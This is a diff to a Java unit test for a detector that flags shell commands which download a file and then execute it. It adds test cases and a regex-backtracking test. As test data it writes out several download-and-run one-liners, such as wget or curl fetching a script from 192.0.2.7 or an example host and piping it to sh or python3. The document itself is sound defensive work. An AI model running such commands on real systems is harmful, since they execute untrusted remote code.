@@ -24,6 +24,8 @@ class FetchedRunTest {
         assertThat(shows("wget 'http://192.0.2.7/h.php?v=2' ; php h.php")).isTrue();
         assertThat(shows("lwp-download http://192.0.2.7/i /tmp/i; sh /tmp/i")).isTrue();
         assertThat(shows("aria2c -o j.js http://192.0.2.7/j && node j.js")).isTrue();
+        assertThat(shows("wget 192.0.2.7/k.sh; sh k.sh")).isTrue(); // no scheme: wget assumes http
+        assertThat(shows("curl -O dl.example.net/tools/l.py && python3 l.py")).isTrue();
     }
 
     @Test
@@ -47,6 +49,14 @@ class FetchedRunTest {
         assertThat(shows("wget https://example.org/t.py && python3 -c 'import t' && python3 -m t")).isFalse();
         assertThat(shows("curl -o u.sh https://example.org/u.sh && bash -c 'echo done'")).isFalse();
         assertThat(shows("curl -H 'X-Token: v.sh' https://example.org/api && sh v.sh")).isFalse();
+        assertThat(shows("wget -i list.txt && sh list.txt")).isFalse(); // the list is read, not written
+    }
+
+    @Test
+    void longWordsAreScannedNotBacktracked() {
+        String host = "a.".repeat(4000) + "example";
+        assertThat(shows("wget " + host + "/x.sh; sh x.sh")).isTrue();
+        assertThat(shows("wget " + "1.".repeat(4000) + "/y.sh; sh y.sh")).isFalse();
     }
 
     @Test
